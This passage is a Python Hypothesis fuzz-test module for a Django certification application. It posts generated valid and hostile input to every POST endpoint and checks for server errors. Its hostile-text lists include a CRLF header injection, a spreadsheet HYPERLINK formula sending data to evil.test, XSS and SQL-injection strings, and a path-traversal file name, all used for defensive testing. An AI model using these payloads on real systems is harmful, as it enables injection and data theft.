"""Every address of the project that accepts a POST, posted generated input by a visitor allowed to act there,
with a real CSRF token: the answer is never a 500, and for every address some generated examples go through
(so that refusing everything does not pass).

Which addresses accept a POST is read from the URLconf and the views themselves
(``test_every_post_url_has_a_strategy``): each named URL of the access matrix (tests/test_access_matrix.py,
with its exclusions: Django's admin and allauth's own pages) is posted an empty body by every persona the
matrix lets through; it accepts POST when one of those answers is not 405 and the view is behind
``require_POST`` (its GET is 405), or the project's code read ``request.POST``/``request.FILES`` or looked at
``request.method``. An address accepting POST without an entry in ``STRATEGIES``, and an entry for an address
that no longer accepts POST, both fail.

Each entry of ``STRATEGIES`` says who posts (by default the first persona the matrix lets through), into which
address (by default the matrix's objects), and the fields with their kind; each field's value is drawn from a
valid one, hostile ones of its kind (impossible dates, huge numbers, any text, rarely a NUL) or left out. Where
the matrix's World is too far along the journey for the action (FR.AK.02 signed, say), ``state`` builds, through
the services, a participant or a case where it is possible.

``make test`` runs the ``ci`` profile (a dozen examples per address), ``make fuzz`` the ``deep`` one. The World is
built once per address; each example runs in a savepoint rolled back at its end, so every example meets the
same state.
"""

import datetime
import os
import sys
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
from django import forms
from django.contrib import messages
from django.core.cache import caches
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.handlers.wsgi import WSGIRequest
from django.db import connection, transaction
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from kompeten.accounts.models import Role
from kompeten.assessments import conduct, planning, review, services, third_party
from kompeten.assessments.models import Participant, ValidationPeriod
from kompeten.assessments.question_bank import HEADER as QUESTION_HEADER
from kompeten.cases import services as case_services
from kompeten.cases.models import Case
from kompeten.cases.selectors import outline_kuk, scheme_outline
from kompeten.certificates import appeals, credentials, legacy_import
from kompeten.certificates import services as certificate_services
from kompeten.certificates.models import Certificate
from kompeten.core.import_jobs import workbook_import_create
from kompeten.core.services import LSP_PROFILE_FIELDS
from kompeten.core.workbooks import workbook_bytes
from kompeten.standards.imports import import_job_create
from tests.assessment_fixtures import consented, ready_case
from tests.assessments.test_planning import every_kuk
from tests.assessments.test_reports import recorded
from tests.case_fixtures import PDF, complete_profile, png
from tests.certificates.test_decisions import signed, unit_ids
from tests.factories import UnitFactory, UserFactory
from tests.standards.parsing import documents
from tests.test_access_matrix import (
    ALLOW,
    ERROR,
    INVALID,
    PERSONAS,
    ROWS,
    World,
    _build_world,
    outcome,
    url_names,
)
from tests.test_fuzz_entry_points import good_legacy_row, workbook

# --- how many examples --------------------------------------------------------------------------------------

DEEP = hypothesis_settings.default.max_examples >= 10_000
EXAMPLES = 1_000 if DEEP else 12  # per address: the ci run keeps the whole file within about two minutes

# --- values, valid and hostile ------------------------------------------------------------------------------

MISSING = object()  # the field is left out of the body

_ANY_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60
)
_NASTY_TEXT = st.sampled_from(
    [
        "",
        " ",
        "\n",
        "a\r\nBcc: korban@contoh.test",
        '=HYPERLINK("http://evil.test/?x="&B2,"klik")',
        "<script>alert(1)</script>",
        "'; DROP TABLE x; --",
        "\U0001d518\U0001d52b\u2713 \u00e9 \u0663 \u00b2",
        "\u202eRTL",
        "-1",
        "9" * 40,
    ]
)
_LONG_TEXT = st.integers(300, 12_000).map(lambda n: "ab\n" * (n // 3))
_WITH_NUL = st.sampled_from(["a\x00b", "\x00"])


def hostile_text():
    """Any text: unicode, newlines, very long; once in about twenty draws one holding a NUL."""
    return st.integers(0, 19).flatmap(
        lambda n: _WITH_NUL if n == 0 else (_LONG_TEXT if n == 1 else st.one_of(_ANY_TEXT, _NASTY_TEXT))
    )


IMPOSSIBLE_DATES = [
    "2026-02-30",
    "2026-13-01",
    "2026-00-10",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "-2026-01-01",
    "2026/01/01",
    "31-12-2026",
]
IMPOSSIBLE_TIMES = ["25:61", "24:00", "23:59:60", "-1:00", "7", "12:00 PM", "00:00"]
IMPOSSIBLE_DATETIMES = [
    "2026-02-30T10:00",
    "2026-01-01T25:61",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "2026-01-01T24:00",
    "2026-01-01T10:00:60",
    "2026-01-01 10:00",
    "2026-01-01T10:00+25:00",
    "2026-01-01T10:00Z",
]
ODD_NUMBERS = ["-1", "0", "1.5", "1e9", "1e400", "NaN", "Infinity", "-0", "0x10", " 7 ", "+5", "٣", "1,5", ""]
FILE_NAMES = ["bukti.pdf", "a\nb.pdf", "../../etc/passwd", "x" * 300 + ".pdf", "ünï código.pdf", ".pdf", "a"]


def _date_text(value: datetime.date) -> str:
    return f"{value.year:04d}-{value.month:02d}-{value.day:02d}"


def _datetime_text(value: datetime.datetime) -> str:
    return f"{_date_text(value)}T{value.hour:02d}:{value.minute:02d}"


def _integer():
    return st.one_of(st.integers().map(str), st.sampled_from(ODD_NUMBERS), hostile_text())


def _upload(pair) -> SimpleUploadedFile:
    name, data = pair
    return SimpleUploadedFile(name, data)


KINDS: dict[str, Callable[..., st.SearchStrategy]] = {
    "text": lambda choices: hostile_text(),
    "date": lambda choices: st.one_of(
        st.sampled_from(IMPOSSIBLE_DATES), st.dates().map(_date_text), hostile_text()
    ),
    "datetime-local": lambda choices: st.one_of(
        st.sampled_from(IMPOSSIBLE_DATETIMES), st.datetimes().map(_datetime_text), hostile_text()
    ),
    "time": lambda choices: st.one_of(
        st.sampled_from(IMPOSSIBLE_TIMES),
        st.times().map(lambda t: f"{t.hour:02d}:{t.minute:02d}"),
        hostile_text(),
    ),
    "integer": lambda choices: _integer(),
    "decimal": lambda choices: st.one_of(
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        st.sampled_from(ODD_NUMBERS),
        hostile_text(),
    ),
    "choice": lambda choices: st.one_of(st.sampled_from(choices or [""]), hostile_text()),
    "boolean": lambda choices: st.one_of(
        st.sampled_from(["on", "yes", "no", "true", "false", "1", "0", "ada", "met", "valid"]), hostile_text()
    ),
    "file": lambda choices: st.tuples(
        st.one_of(
            st.sampled_from(FILE_NAMES),
            hostile_text().filter(lambda t: "\x00" not in t and os.path.basename(t) not in ("", ".", "..")),
        ),
        st.one_of(
            st.sampled_from([PDF, png(), b"", b"%PDF-1.4\n<html>", b"PK\x03\x04"]), st.binary(max_size=2048)
        ),
    ).map(_upload),
    "list": lambda choices: st.lists(st.one_of(st.sampled_from(choices or [""]), hostile_text()), max_size=6),
}


@dataclass(frozen=True)
class F:
    """One field: its kind (a key of ``KINDS``), a valid value (or ``valid(world)``) and, for a choice or a
    list, the values that make sense."""

    kind: str
    valid: object = ""
    choices: tuple = ()

    def valid_value(self, world):
        value = self.valid(world) if callable(self.valid) else self.valid
        if self.kind == "file" and isinstance(value, tuple):
            return _upload(value)
        return value

    def strategy(self, world) -> st.SearchStrategy:
        choices = [str(c(world) if callable(c) else c) for c in self.choices]
        return st.one_of(
            st.just(MISSING), st.builds(lambda: self.valid_value(world)), KINDS[self.kind](choices)
        )


def text(valid="Teks uji") -> F:
    return F("text", valid)


def choice(*choices, valid=None) -> F:
    return F("choice", choices[0] if valid is None else valid, choices)


def boolean(valid="on") -> F:
    return F("boolean", valid)


def integer(valid) -> F:
    return F("integer", valid)


def upload(data=PDF, name="bukti.pdf") -> F:
    return F("file", (name, data))


def many(*choices, valid=None) -> F:
    return F("list", list(choices) if valid is None else valid, choices)


def pk_of(get) -> F:
    """The id of an object of the World: valid when it is the right one, hostile numbers otherwise."""
    return F("integer", lambda w: str(get(w).pk))


def question_workbook(w: World) -> bytes:
    code = w.scheme.scheme_units.first().unit.code
    return workbook(QUESTION_HEADER, [[code, "Pilih yang benar", "Satu", "Dua", None, None, None, "B"]])


def legacy_workbook() -> bytes:
    return workbook([column.header for column in legacy_import.COLUMNS], [good_legacy_row(1)])


def in_a_week(w) -> datetime.datetime:
    return timezone.localtime() + datetime.timedelta(days=7)


# --- states further back in the journey, for the actions the World is too far along for ---------------------


NO_WORKER = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend", "QUEUES": []}}
NEW_CANDIDATE = "asesi_baru"  # the candidate of the participants and cases the states below build


def _new_candidate(w: World):
    user = UserFactory(email="asesi.baru@contoh.id", full_name="Asesi Baru", roles=[Role.ASESI])
    complete_profile(user)
    w.users[NEW_CANDIDATE] = user
    return user


def _scheduled(w: World) -> Participant:
    """A new candidate of the session, assessed by asesor_assigned, just scheduled."""
    case = ready_case(_new_candidate(w), w.scheme, w.users["asesor_assigned"])
    return services.session_add_participant(actor=w.users["manajer"], session=w.session, case=case)


def scheduled(w: World) -> dict:
    return {"pk": _scheduled(w).pk}


def proposed(w: World) -> dict:
    participant = _scheduled(w)
    conduct.consent_propose(
        actor=participant.asesor,
        participant=participant,
        methods=["observasi"],
        agreed_time=timezone.now(),
        agreed_place="TUK Jakarta",
    )
    return {"pk": participant.pk}


def adjusted(w: World) -> dict:
    participant = _scheduled(w)
    conduct.adjustment_record(
        actor=participant.asesor, participant=participant, potential=1, answers={}, agreed="Disepakati"
    )
    return {"pk": participant.pk}


def _assessing(w: World) -> Participant:
    """Consented, and the assessor has written one KUK of FR.IA.01 (the assessment has started)."""
    participant = consented(_scheduled(w))
    conduct.instrument_field_save(
        actor=participant.asesor,
        participant=participant,
        kind="IA.01",
        key=f"kuk:{every_kuk(w.scheme)[0]}",
        value="K",
        version=0,
    )
    return participant


def assessing(w: World) -> dict:
    return {"pk": _assessing(w).pk}


def ia01(state: Callable[[World], dict]) -> Callable[[World], dict]:
    return lambda w: {**state(w), "kind": "IA.01"}


def concluded(w: World) -> dict:
    participant = _assessing(w)
    conduct.instrument_conclude(
        actor=participant.asesor, participant=participant, kind="IA.01", recommendation="K"
    )
    return {"pk": participant.pk, "kind": "IA.01"}


def recorded_by_assessor(w: World) -> dict:
    participant = _scheduled(w)
    recorded(participant)
    return {"pk": participant.pk}


def heard(w: World) -> dict:
    appeals.appeal_hearing_record(
        actor=w.users["panel_member"], appeal=w.appeal, held_at=timezone.now(), notes="Didengar"
    )
    return {"pk": w.appeal.pk}


def _decided_bk(w: World):
    """A new candidate assessed and decided BK: the decision may be appealed."""
    participant = _scheduled(w)
    signed(participant)
    case = participant.case
    certificate_services.decision_record(
        actor=w.users["komite_uninvolved"],
        case=case,
        competent=False,
        reason="Kurang",
        units=unit_ids(participant)[:1],
    )
    case.refresh_from_db()
    return case


def decided_bk(w: World) -> dict:
    return {"case_pk": _decided_bk(w).pk}


def appealed(w: World) -> dict:
    """... and appealing: the panel is still to be formed."""
    case = _decided_bk(w)
    appeal = appeals.appeal_submit(
        actor=case.asesi,
        case=case,
        process_explained=True,
        discussed_with_assessor=True,
        grounds="Tidak adil",
    )
    return {"pk": appeal.pk}


def new_candidate(w: World) -> dict:
    _new_candidate(w)
    return {"scheme_pk": w.scheme.pk}


def complete_plan(w: World) -> dict:
    planning.plan_save(
        actor=w.users["manajer"],
        plan=w.plan,
        texts={"candidate_group": "Lulusan SMK", "purpose": "Sertifikasi", "context": "TUK sewaktu"},
        kuk_plans={
            str(pk): {"evidence": "Observasi", "types": ["L"], "methods": ["CL"]}
            for pk in every_kuk(w.scheme)
        },
        modifications={},
        instrument_map={"IA.01": ["1"]},
    )
    return {"pk": w.plan.pk}


def plan_published(w: World) -> dict:
    complete_plan(w)
    planning.plan_publish(actor=w.users["manajer"], plan=w.plan)
    return {"scheme_pk": w.scheme.pk}


def expiring(w: World) -> dict:
    """The certificate ends within the 90 days in which recertification opens (dated as the matrix does); the
    appeal is decided and the waiting case certified, so that no application of the scheme is running."""
    certificate_services.certificate_issue(actor=w.users["admin_lsp"], case=w.waiting_case)
    soon = datetime.date.today() + datetime.timedelta(days=30)
    heard(w)
    appeals.appeal_decide(
        actor=w.users["panel_member"], appeal=w.appeal, outcome="dismissed", reason="Sesuai"
    )
    Certificate.objects.filter(pk=w.certificate.pk).update(expires_on=soon)
    return {"pk": w.certificate.pk}


def decided_competent(w: World) -> dict:
    """asesi_other's participant decided K: the session has a case waiting for its certificate."""
    case = w.other_participant.case
    case.refresh_from_db()
    certificate_services.decision_record(actor=w.users["komite_uninvolved"], case=case, competent=True)
    return {"pk": w.session.pk}


def ready_to_schedule(w: World) -> dict:
    """A new candidate whose APL-02 review said the assessment can continue, not yet in a session."""
    w.ready_case = ready_case(_new_candidate(w), w.scheme, w.users["asesor_assigned"])
    return {"pk": w.session.pk}


def self_assessment_submitted(w: World) -> dict:
    """A new candidate's case whose FR.APL.02 is submitted: an assessor is to be assigned."""
    kwargs = case_at("answered")(w)
    case = Case.objects.get(pk=kwargs["pk"])
    case_services.self_assessment_submit(actor=case.asesi, case=case)
    return {"pk": case.pk}


def queued_workbook_import(w: World) -> dict:
    """An Excel import still waiting for the worker: it can be cancelled."""
    with override_settings(TASKS=NO_WORKER):
        job = workbook_import_create(
            actor=w.users["manajer"],
            kind="legacy_certificates",
            name="lama.xlsx",
            data=workbook_bytes("A", ["x"], []),
        )
    return {"pk": job.pk}


def provisional_unit(w: World) -> dict:
    unit = UnitFactory(code=None, is_provisional=True, title="Unit Sementara")
    w.draft_scheme.scheme_units.create(unit=unit, order=9)
    return {"pk": w.draft_scheme.pk, "unit_pk": unit.pk}


def read_import(w: World) -> dict:
    job = import_job_create(
        actor=w.users["admin_lsp"],
        name="skkni.txt",
        data=documents.skkni_text()
        .replace("2024\n", "2024\nTENTANG\nSTANDAR KOMPETENSI KERJA UJI\n", 1)
        .encode(),
    )
    return {"pk": job.pk}


def case_at(stage: str) -> Callable[[World], dict]:
    """A new candidate's case taken through the services up to ``stage``: "draft" (documents uploaded),
    "submitted", "verified" (self-assessment open) or "self_assessed" (assessor assigned, review due)."""

    def build(w: World) -> dict:
        user = _new_candidate(w)
        case = case_services.case_open(actor=user, scheme=w.scheme, purpose="sertifikasi")
        for requirement in w.scheme.evidence.all():
            case_services.evidence_upload(
                actor=user, case=case, name="bukti.pdf", data=PDF, requirement=requirement
            )
        steps = ["draft", "submitted", "verified", "answered", "self_assessed"]
        if steps.index(stage) >= 1:
            case_services.case_submit(actor=user, case=case, declaration=True)
        if steps.index(stage) >= 2:
            case_services.case_verify(
                actor=w.users["admin_lsp"],
                case=case,
                documents={e.pk: case_services.DocumentDecision(True) for e in case.evidence.all()},
                requirements={r.pk: True for r in w.scheme.requirements.all()},
                outcome="accept",
            )
        if steps.index(stage) >= 3:
            for element in case_services.case_elements(case):
                case_services.self_assessment_save(
                    actor=user, case=case, element=element, version=0, answer="K"
                )
        if steps.index(stage) >= 4:
            case_services.self_assessment_submit(actor=user, case=case)
            case_services.asesor_assign(
                actor=w.users["admin_lsp"], case=case, asesor=w.users["asesor_assigned"]
            )
        kwargs = {"pk": case.pk}
        if stage == "draft":  # the document a FR.APL.01 upload answers
            kwargs["requirement_pk"] = w.scheme.evidence.first().pk
        if stage == "verified" and w.scheme:  # the element an APL-02 answer is saved to
            kwargs["element_pk"] = case_services.case_elements(case)[0].pk
        return kwargs

    return build


def case_only(state: Callable[[World], dict]) -> Callable[[World], dict]:
    return lambda w: {"pk": state(w)["pk"]}


# --- one entry per address accepting POST --------------------------------------------------------------------


@dataclass(frozen=True)
class Post:
    """What is posted to one address: ``fields`` (a dict, or ``fields(world, kwargs)`` where the names follow the
    data),
    who posts (``persona``; the matrix's first allowed persona by default) and into which address (``kwargs``,
    the matrix's by default, or ``state`` building one where the action is possible)."""

    fields: dict | Callable[[World], dict] = field(default_factory=dict)
    persona: str | None = None
    kwargs: Callable[[World], dict] | None = None
    state: Callable[[World], dict] | None = None


def units(w: World) -> list[str]:
    return [str(unit.pk) for unit in scheme_outline(w.scheme)]


STRATEGIES: dict[str, Post] = {
    # --- accounts and core ----------------------------------------------------------------------------------
    "accounts:applicant_profile": Post(
        lambda w, k: {
            "full_name": text("Siti Rahma"),
            "nationality": choice("WNI", "WNA"),
            "nik": text("3171015708900002"),
            "passport_number": text(""),
            "province": choice("31", "32"),
            "place_of_birth": text("Jakarta"),
            "date_of_birth": F("date", "1990-08-17"),
            "sex": choice("P", "L"),
            "address": text("Jl. Melati 5"),
            "phone": text("+62812345678"),
            "last_education": text("S1"),
            "employer": text("PT Contoh"),
            "job_title": text("Staf"),
            "employer_address": text("Jl. Sudirman 1"),
        }
    ),
    "core:lsp_profile_edit": Post(
        {
            **dict.fromkeys(LSP_PROFILE_FIELDS, text("LSP Uji")),
            "licence_valid_until": F("date", "2030-01-01"),
            "email": text("lsp@contoh.id"),
            "website": text("lsp.contoh.id"),
            "logo": upload(png(), "logo.png"),
        }
    ),
    # --- schemes and standards ------------------------------------------------------------------------------
    "schemes:activate": Post(),
    "schemes:retire": Post(),
    "schemes:unit_resolve": Post(
        {"code": F("text", lambda w: w.scheme.scheme_units.first().unit.code)}, state=provisional_unit
    ),
    "standards:import_list": Post(
        {"document": upload(b"Standar uji\n", "standar.txt"), "kind": choice("auto", "skkni", "apl02")}
    ),
    "standards:import_confirm": Post(state=read_import),
    "standards:import_cancel": Post(),
    "core:workbook_import_cancel": Post(state=queued_workbook_import),
    "accounts:correction_request": Post({"text": text("Nama saya salah eja.")}),
    # --- cases ----------------------------------------------------------------------------------------------
    "cases:new": Post(
        {"purpose": choice("sertifikasi", "rpl", "lainnya"), "purpose_other": text("")},
        persona=NEW_CANDIDATE,
        state=new_candidate,
    ),
    "cases:document_upload": Post({"file": upload()}, persona=NEW_CANDIDATE, state=case_at("draft")),
    "cases:submit": Post(
        {"declaration": boolean()}, persona=NEW_CANDIDATE, state=case_only(case_at("draft"))
    ),
    "cases:verify": Post(
        lambda w, k: {
            **{
                f"document-{e.pk}": choice("valid", "invalid")
                for e in Case.objects.get(pk=k["pk"]).evidence.all()
            },
            **{f"note-{e.pk}": text("") for e in Case.objects.get(pk=k["pk"]).evidence.all()},
            **{f"requirement-{r.pk}": choice("met", "not_met") for r in w.scheme.requirements.all()},
            "outcome": choice("accept", "return", "reject"),
            "note": text(""),
        },
        state=case_at("submitted"),
    ),
    "cases:apl02_save": Post(
        {
            "version": integer("0"),
            "answer": choice("K", "BK"),
            "evidence_note": text(""),
            "evidence": many("1", "2"),
            "evidence_sent": boolean("1"),
        },
        persona=NEW_CANDIDATE,
        state=case_at("verified"),
    ),
    "cases:apl02_evidence": Post(
        {"file": upload()}, persona=NEW_CANDIDATE, state=case_only(case_at("verified"))
    ),
    "cases:apl02_submit": Post(persona=NEW_CANDIDATE, state=case_only(case_at("answered"))),
    "cases:assign": Post(
        {"asesor": pk_of(lambda w: w.users["asesor_assigned"])}, state=self_assessment_submitted
    ),
    "cases:review": Post(
        {"decision": choice("continue", "not_continue"), "note": text("")}, state=case_at("self_assessed")
    ),
    # --- assessments: sessions, TUK, MAPA -------------------------------------------------------------------
    "assessments:sessions": Post(
        {
            "scheme": pk_of(lambda w: w.scheme),
            "tuk": pk_of(lambda w: w.tuk),
            "date": F("date", lambda w: _date_text(in_a_week(w))),
            "start": F("time", "08:00"),
            "end": F("time", "16:00"),
            "quota": integer("10"),
        },
        persona="manajer",
    ),
    "assessments:tuk": Post(
        {
            "address": text("Jl. Merdeka 1"),
            "time_zone": choice("Asia/Jakarta", "Asia/Makassar", "Asia/Jayapura"),
            "contact_name": text("Budi"),
            "contact_phone": text("+62211234"),
            "contact_email": text("tuk@contoh.id"),
        }
    ),
    "assessments:participant_add": Post(
        {"case": pk_of(lambda w: w.ready_case), "asesor": pk_of(lambda w: w.users["asesor_assigned"])},
        state=ready_to_schedule,
    ),
    "assessments:declare": Post(),
    "assessments:master_designate": Post({"asesor": pk_of(lambda w: w.users["master_assessor"])}),
    "assessments:validation_cosign": Post(),
    "assessments:question_bank": Post({"file": F("file", lambda w: ("soal.xlsx", question_workbook(w)))}),
    "assessments:plans": Post(state=plan_published),
    "assessments:plan": Post(
        lambda w, k: {
            **dict.fromkeys(planning.TEXT_FIELDS, text("Teks")),
            **{
                f"{prefix}-{kuk.pk}": many("observasi", "lisan", "portofolio")
                for _unit, kuk in outline_kuk(scheme_outline(w.scheme))
                for prefix in ("types", "methods")
            },
            "modification-1": choice("ada", ""),
            "modification-text-1": text(""),
            "map-IA.01": many("1", "2"),
        }
    ),
    "assessments:plan_publish": Post(state=complete_plan),
    "assessments:session_report": Post(
        dict.fromkeys(("positives", "negatives", "refusals", "suggestions"), text("Lancar"))
    ),
    "assessments:session_print": Post(),
    "assessments:process_review": Post(
        {
            **{f"rating-{stage}": many(*dict(review.PRINCIPLES)) for stage, _label in review.STAGES},
            "dimensions": many(*dict(review.DIMENSIONS)),
            "consistency": text("Konsisten"),
            "recommendations": text("Tambah waktu praktik"),
        }
    ),
    "assessments:validation": Post(
        {
            "period": choice(*ValidationPeriod.values, valid=ValidationPeriod.DURING),  # "before" is signed
            **{f"aspect-{n}": many("V", "A", "T", "M") for n in range(1, len(review.VALIDATION_ASPECTS) + 1)},
            "findings": text("Sesuai"),
            **dict.fromkeys(review.VALIDATION_TEXTS, text("Teks")),
        }
    ),
    # --- assessments: one participant ----------------------------------------------------------------------
    "assessments:consent_propose": Post(
        {
            "methods": many("observasi", "lisan", "tertulis"),
            "agreed_time": F("datetime-local", lambda w: _datetime_text(in_a_week(w))),
            "agreed_place": text("TUK Jakarta"),
        },
        state=scheduled,
    ),
    "assessments:consent_confirm": Post(persona=NEW_CANDIDATE, state=proposed),
    "assessments:adjustment_record": Post(
        {
            **{f"needed-{n}": choice("yes", "no") for n in range(1, len(conduct.ADJUSTMENT_ITEMS) + 1)},
            **{f"note-{n}": text("") for n in range(1, len(conduct.ADJUSTMENT_ITEMS) + 1)},
            "potential": integer("1"),
            "agreed": text("Disepakati"),
        },
        state=scheduled,
    ),
    "assessments:adjustment_confirm": Post(persona=NEW_CANDIDATE, state=adjusted),
    "assessments:instrument_save": Post(
        {"key": text("note:1"), "value": text("Teks"), "version": integer("0")},
        state=ia01(assessing),
    ),
    "assessments:instrument_conclude": Post(
        {"recommendation": choice("K", "BK"), "feedback": text("Baik")}, state=ia01(assessing)
    ),
    "assessments:instrument_acknowledge": Post(persona=NEW_CANDIDATE, state=concluded),
    "assessments:test_open": Post({"minutes": integer("60"), "pass_mark": integer("70")}, state=assessing),
    "assessments:test_answer": Post(
        {"question": F("integer", lambda w: str(w.attempt.question_ids[0])), "option": integer("0")}
    ),
    "assessments:test_submit": Post(),
    "assessments:third_party_request": Post(
        {"name": text("Budi"), "email": text("budi@contoh.id"), "workplace": text("PT Contoh")},
        state=assessing,
    ),
    "assessments:third_party": Post(
        {
            **{f"q{n}": choice("yes", "no") for n in range(1, len(third_party.QUESTIONS) + 1)},
            **dict.fromkeys(
                ("relationship", "duration", "qualifications", "judgement", "training"), text("Atasan")
            ),
        }
    ),
    "assessments:record_sign": Post(
        lambda w, k: {
            **{f"evidence-{unit}": many("observasi", "lisan") for unit in units(w)},
            **{f"sufficient-{unit}": choice("yes", "no") for unit in units(w)},
            "recommendation": choice("K", "BK"),
            **dict.fromkeys(("reason", "follow_up", "comments"), text("")),
        },
        state=assessing,
    ),
    "assessments:record_acknowledge": Post(persona=NEW_CANDIDATE, state=recorded_by_assessor),
    "assessments:feedback": Post(
        {
            **{f"item-{n}": choice("yes", "no") for n in range(1, len(conduct.FEEDBACK_ITEMS) + 1)},
            **{f"comment-{n}": text("") for n in range(1, len(conduct.FEEDBACK_ITEMS) + 1)},
            "note": text(""),
        }
    ),
    # --- certificates ---------------------------------------------------------------------------------------
    "certificates:decide": Post(
        lambda w, k: {"outcome": choice("K", "BK"), "reason": text("Cukup"), "units": many(*units(w))}
    ),
    "certificates:issue": Post(),
    "certificates:session_certificates": Post(state=decided_competent),
    "certificates:legacy_import": Post({"file": F("file", lambda w: ("lama.xlsx", legacy_workbook()))}),
    "certificates:status": Post(
        {"action": choice("suspend", "withdraw", "reinstate"), "reason": text("Pelanggaran kode etik")}
    ),
    "certificates:blanko": Post({"blanko_number": text("B-000123")}),
    "certificates:recertification": Post(state=expiring),
    "certificates:logbook_submit": Post({"file": upload(PDF, "logbook.pdf"), "note": text("Proyek 2025")}),
    "certificates:logbook_review": Post({"outcome": choice("accept", "reject"), "note": text("")}),
    "certificates:credential_check": Post(
        {"credential": F("text", lambda w: credentials.credential_jwt(actor=None, certificate=w.certificate))}
    ),
    # --- certificates: appeals and complaints ---------------------------------------------------------------
    "certificates:appeal_submit": Post(
        {
            "process_explained": choice("yes", "no"),
            "discussed_with_assessor": choice("yes", "no"),
            "other_person": text(""),
            "grounds": text("Penilaian tidak adil"),
        },
        persona=NEW_CANDIDATE,
        state=decided_bk,
    ),
    "certificates:appeal_panel": Post(
        {"members": F("list", lambda w: [str(u.pk) for u in w.appeal.panel.all()], ("1", "2"))},
        persona="admin_lsp",
        state=appealed,
    ),
    "certificates:appeal_hearing": Post(
        {
            "held_at": F("datetime-local", lambda w: _datetime_text(timezone.localtime())),
            "notes": text("Didengar"),
        }
    ),
    "certificates:appeal_decide": Post(
        {"outcome": choice("dismissed", "upheld_reassessment", "upheld_reversed"), "reason": text("Alasan")},
        state=heard,
    ),
    "certificates:complaint_new": Post(
        {
            "name": text("Warga"),
            "email": text("warga@contoh.id"),
            "subject": text("Jadwal mundur"),
            "description": text("Jadwal asesmen diundur tanpa kabar."),
        }
    ),
    "certificates:complaint_manage": Post(
        {"status": choice("in_progress", "resolved"), "note": text("Ditangani")}
    ),
}

# 500s this file found in views that read dates, times and numbers by hand: those views are being moved onto
# Django Forms (issue 12, item 5), so they are left alone here. Each is xfail(strict=True) until then, and its
# input is always one of the examples, so that the mark turns red the day the view is fixed.
KNOWN_500S: dict[str, tuple] = {
    # address: (reason, the input that crashes it[, the only database it crashes on]); empty since the views
    # that read ids, dates and numbers by hand moved onto Django forms
}


# --- which addresses accept a POST ----------------------------------------------------------------------------

PROJECT_CODE_SKIPPED = (
    "kompeten.core.middleware",
    "kompeten.core.context_processors",
    "kompeten.accounts.middleware",
)


def rows_of(name: str) -> tuple:
    return ROWS[name] if isinstance(ROWS[name], tuple) else (ROWS[name],)


def allowed_personas(name: str) -> list[str]:
    """The personas the matrix lets past the access check of the address: those it lets act first, then
    those it lets in to be told no, each in the matrix's order."""
    row = rows_of(name)[0]
    return [p for p in PERSONAS if row.expect[p] == ALLOW] + [p for p in PERSONAS if row.expect[p] == INVALID]


@pytest.fixture
def world(cast, scheme, applicant, asesor, other_applicant) -> World:
    return _build_world(cast, scheme, applicant, asesor, other_applicant)


@pytest.fixture
def looked_at(monkeypatch) -> list[str]:
    """The project modules (middleware aside) that read ``request.POST``/``FILES`` or ``request.method``."""
    seen: list[str] = []

    def note() -> None:
        module = sys._getframe(2).f_globals.get("__name__", "")
        if module.startswith("kompeten.") and module not in PROJECT_CODE_SKIPPED:
            seen.append(module)

    def watched(prop):
        def get(request):
            note()
            return prop.fget(request)

        return property(get, prop.fset)

    def get_method(request):
        note()
        return request.__dict__["_watched_method"]

    def set_method(request, value):
        request.__dict__["_watched_method"] = value

    monkeypatch.setattr(WSGIRequest, "POST", watched(WSGIRequest.POST))
    monkeypatch.setattr(WSGIRequest, "FILES", watched(WSGIRequest.FILES))
    monkeypatch.setattr(WSGIRequest, "method", property(get_method, set_method), raising=False)
    # the probe asks for what a page does, not for its PDF: rendering one is the slow part of asking
    monkeypatch.setattr("weasyprint.HTML.write_pdf", lambda self, *args, **kwargs: b"%PDF-1.4\n")
    return seen


def signed_in(world: World, persona: str, **options) -> Client:
    client = Client(raise_request_exception=False, **options)
    if persona != "anonymous":
        client.force_login(world.users[persona])
    return client


def accepts_post(name: str, world: World, looked_at: list[str]) -> bool:
    """Whether the address takes a POST from one of the personas the matrix lets through: not 405, and the
    view looked at the request's method or body, or is behind ``require_POST`` (its GET is 405)."""
    url = reverse(name, kwargs=rows_of(name)[0].kwargs(world))
    for n, persona in enumerate(allowed_personas(name)):
        client = signed_in(world, persona)
        with transaction.atomic():
            looked_at.clear()
            posted = client.post(url).status_code
            looked = bool(looked_at)
            post_only = n == 0 and not looked and posted != 405 and client.get(url).status_code == 405
            transaction.set_rollback(True)
        if posted != 405 and (looked or post_only):
            return True
    return False


def test_every_post_url_has_a_strategy(world, looked_at):
    posting = {name for name in url_names() if accepts_post(name, world, looked_at)}
    missing, stale = sorted(posting - set(STRATEGIES)), sorted(set(STRATEGIES) - posting)
    assert not missing and not stale, (
        "Declare in STRATEGIES what to post to every address that accepts POST.\n"
        f"Accepting POST without a strategy: {missing}\nStrategies for addresses that take no POST: {stale}"
    )


def test_the_detection_sees_pages_that_take_no_post(world, looked_at):
    """The probe tells a page that only shows things from one that takes input (so the check above can fail)."""
    assert not accepts_post("certificates:verify", world, looked_at)
    assert not accepts_post("cases:detail", world, looked_at)
    assert accepts_post("certificates:complaint_new", world, looked_at)  # no require_POST, reads the form
    assert accepts_post("assessments:plans", world, looked_at)  # looks at request.method only
    assert accepts_post("cases:apl02_submit", world, looked_at)  # require_POST, reads nothing


# --- posting -----------------------------------------------------------------------------------------------------


def csrf_token(client: Client) -> str:
    """The token a browser would send back: the cookie set by a page holding a form."""
    client.get(reverse("certificates:complaint_new"))
    return client.cookies["csrftoken"].value


def said_by(response) -> list:
    """The messages this request added, shown on its own page (a refused form) or left for the next one (the
    client keeps no messages cookie between examples, so the loaded ones are this request's too)."""
    storage = getattr(response.wsgi_request, "_messages", None)
    return [*getattr(storage, "_loaded_messages", []), *getattr(storage, "_queued_messages", [])]


def refused_input(response) -> bool:
    """A 2xx answer that says the input was refused: an error message, a form with errors, a problem shown,
    or a JSON ``ok: false``."""
    if any(message.level == messages.ERROR for message in said_by(response)):
        return True
    for context in response.context or []:
        for values in getattr(context, "dicts", [context]):
            if not isinstance(values, dict):
                continue
